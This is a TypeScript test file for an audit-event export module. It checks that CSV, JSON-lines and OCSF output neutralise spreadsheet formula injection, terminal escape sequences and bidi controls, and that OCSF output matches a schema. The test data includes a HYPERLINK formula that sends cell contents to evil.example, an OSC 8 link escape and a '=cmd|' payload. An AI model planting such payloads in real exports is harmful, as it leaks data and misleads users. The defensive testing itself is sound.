import assert from 'node:assert/strict';
import { test } from 'node:test';
import { z } from 'zod';
import { makeEvent, type Event, type EventKind, type EventParts } from '../../core/event.ts';
import { csvCell, csvHead, csvLine } from './csv.ts';
import { ENCODINGS, EXPORT_FORMATS } from './format.ts';
import { ocsfEvent } from './ocsf.ts';

const subject = { id: 'a1', name: 'alice', kind: 'person', groups: ['staff'], issuer: 'local' };
const decision = { effect: 'deny', rule: 'r', reason: 'no', policyVersion: 'v1', risk: { score: 12, factors: [{ name: 'tool', points: 12 }] } } as const;
const full: EventParts = {
  session: '01KA0000000000000000SESS01',
  subject,
  target: 'models',
  protocol: 'mcp',
  client: { address: '10.0.0.7', userAgent: 'agent/1', id: 'cli' },
  command: { name: 'tools/call run', digest: 'd'.repeat(64), flags: [] },
  decision,
  outcome: { status: 'ok', bytes: 3, milliseconds: 7 },
  masks: [{ by: 'detector', name: 'email', count: 2 }],
  note: 'noted',
};
const event = (kind: EventKind, parts: EventParts = full): Event => makeEvent(kind, parts, new Date('2026-11-21T12:00:00Z'));

/** A reader of RFC 4180 of the test's own. */
function parseCsv(text: string): readonly (readonly string[])[] {
  return text
    .split('\r\n')
    .slice(0, -1)
    .map((line) => [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)].map(([, quoted, bare]) => (quoted ?? bare ?? '').replaceAll('""', '"')));
}

test('a cell that a spreadsheet would take for a formula begins with an apostrophe, wherever the formula hides', () => {
  const formulas = [
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '  =1',
    '\u200b=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠A',
    '"=1',
    "'=1",
  ];
  for (const formula of formulas) assert.match(csvCell(formula), /^"'/, JSON.stringify(formula));
  for (const plain of ['tools/call run', 'a=b', 'x-1', 'alice@example.org', '{"id":"=1"}']) assert.equal(csvCell(plain), `"${plain.replaceAll('"', '""')}"`);
});

test('a cell holds nothing that acts on a terminal, turns the direction of writing, or breaks the line', () => {
  const hostile = `a\u001b]8;;https://evil.example\u0007b\u202ec\r\n2026-01-01,forged\u0000\u009b2J\u2028`;
  const cell = csvCell(hostile);
  assert.doesNotMatch(cell, /[\p{Cc}\p{Cf}\u2028]/u);
  assert.equal(parseCsv(`${cell}\r\n`).length, 1);
});

test('every event is one line of as many cells as the head has, whatever is in it', () => {
  const hostile = event('command.failed', { ...full, note: '=1,"\r\n",\u202e', subject: { ...subject, name: '@alice",x', groups: ['=a', 'b,c'] } });
  for (const content of [true, false]) {
    const bodies = [
      { name: 'request' as const, contentType: 'application/json', text: '=cmd|\n"x",y' },
      { name: 'reply' as const, contentType: 'text/plain' },
    ];
    const lines = parseCsv(
      csvHead({ content }) + csvLine({ event: hostile, bodies }, { content }) + csvLine({ event: event('policy.changed', {}) }, { content }),
    );
    assert.deepEqual(
      lines.map((cells) => cells.length),
      [lines[0]?.length, lines[0]?.length, lines[0]?.length],
    );
    const row = new Map(lines[0]?.map((name, at) => [name, lines[1]?.[at]]));
    assert.equal(row.get('subject'), `'@alice",x`);
    assert.equal(row.get('groups'), `'=a, b,c`);
    assert.equal(row.get('time'), '2026-11-21T12:00:00.000Z');
    assert.equal(row.get('content'), content ? 'request: =cmd|\\u{a}"x",y\\u{a}reply: [erased]' : undefined);
    for (const cells of lines.slice(1)) for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
  }
});

test('JSON lines and OCSF say the same as the event, on one line of characters that do nothing', () => {
  const hostile = event('command.failed', { ...full, note: 'a\u001b[2J\u202e\u2028\n\u0085b' });
  for (const format of ['jsonl', 'ocsf'] as const) {
    const line = ENCODINGS[format].line({ event: hostile }, { content: false });
    assert.doesNotMatch(line.slice(0, -1), /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
    assert.ok(line.endsWith('}\n'));
    assert.match(JSON.stringify(JSON.parse(line)), /a\\u001b\[2J/);
  }
  const kept: unknown = JSON.parse(ENCODINGS.jsonl.line({ event: hostile }, { content: false }));
  assert.deepEqual(kept, JSON.parse(JSON.stringify(hostile)));
});

/**
 * API Activity, as https://schema.ocsf.io/1.5.0/classes/api_activity has it: the attributes that this export uses, with their types, and
 * those that are required. Strict: an attribute that is not among them fails.
 */
const text = z.string().min(1);
const whole = z.int().min(0);
const API_ACTIVITY = z.strictObject({
  metadata: z.strictObject({
    version: z.literal('1.5.0'),
    product: z.strictObject({ name: text, vendor_name: text }),
    uid: text,
    event_code: text,
    original_time: text,
    log_name: text,
    correlation_uid: text.optional(),
    profiles: z.array(z.enum(['security_control'])).optional(),
  }),
  time: whole,
  category_uid: z.literal(6),
  category_name: z.literal('Application Activity'),
  class_uid: z.literal(6003),
  class_name: z.literal('API Activity'),
  activity_id: z.union([z.literal(0), z.literal(1), z.literal(2), z.literal(3), z.literal(4), z.literal(99)]),
  activity_name: text,
  type_uid: whole,
  severity_id: z.int().min(0).max(6),
  severity: text,
  status_id: z.union([z.literal(1), z.literal(2)]),
  status: z.enum(['Success', 'Failure']),
  status_code: text.optional(),
  status_detail: text.optional(),
  message: text,
  actor: z
    .strictObject({
      user: z
        .strictObject({
          name: text,
          uid: text,
          type_id: z.union([z.literal(0), z.literal(1), z.literal(4), z.literal(99)]),
          type: text,
          domain: text,
          groups: z.array(z.strictObject({ name: text })).optional(),
        })
        .optional(),
      session: z.strictObject({ uid: text, issuer: text }).optional(),
      invoked_by: text.optional(),
      app_uid: text.optional(),
      app_name: text.optional(),
    })
    .refine((actor) => Object.keys(actor).length > 0, 'at least one of them'),
  api: z.strictObject({
    operation: text,
    service: z.strictObject({ name: text }).optional(),
    request: z.strictObject({ uid: text, data: z.looseObject({}).optional() }),
    response: z.strictObject({ data: z.looseObject({}) }).optional(),
  }),
  src_endpoint: z.strictObject({ ip: text.optional(), svc_name: text.optional() }).refine(({ ip, svc_name: name }) => ip ?? name, 'at least one of them'),
  http_request: z.strictObject({ user_agent: text }).optional(),
  resources: z.array(z.strictObject({ name: text, type: text })).optional(),
  duration: whole.optional(),
  action_id: z.union([z.literal(1), z.literal(2), z.literal(99)]).optional(),
  action: text.optional(),
  policy: z.strictObject({ name: text, version: text }).optional(),
  risk_score: whole.optional(),
  unmapped: z.looseObject({}),
});

const KINDS: readonly EventKind[] = [
  'session.opened',
  'command.forwarded',
  'command.refused',
  'reply.received',
  'approval.granted',
  'lock.lifted',
  'recorder.gap',
  'signin.failed',
  'policy.changed',
  'recording.exported',
];

test('every kind of event has the shape of an OCSF API Activity, with everything and with nothing in it', () => {
  const bodies = [
    { name: 'request' as const, contentType: 'application/json', text: '{}' },
    { name: 'reply' as const, contentType: 'application/json' },
  ];
  for (const kind of KINDS) {
    for (const row of [
      { event: event(kind) },
      { event: event(kind), bodies },
      { event: event(kind, {}) },
      { event: event(kind, { client: { address: '', userAgent: '', id: '' } }) },
    ]) {
      const made = API_ACTIVITY.parse(JSON.parse(JSON.stringify(ocsfEvent(row))));
      assert.equal(made.type_uid, made.class_uid * 100 + made.activity_id);
      assert.equal(made.action_id !== undefined, made.metadata.profiles !== undefined);
    }
  }
  assert.partialDeepStrictEqual(ocsfEvent({ event: event('command.refused') }), {
    status_id: 2,
    action_id: 2,
    action: 'Denied',
    policy: { name: 'r' },
    risk_score: 12,
  });
  assert.partialDeepStrictEqual(ocsfEvent({ event: event('recording.viewed') }), { activity_id: 2, type_uid: 600_302, status: 'Success' });
});

test('there is an encoding for each format', () => {
  assert.deepEqual(Object.keys(ENCODINGS), [...EXPORT_FORMATS]);
});
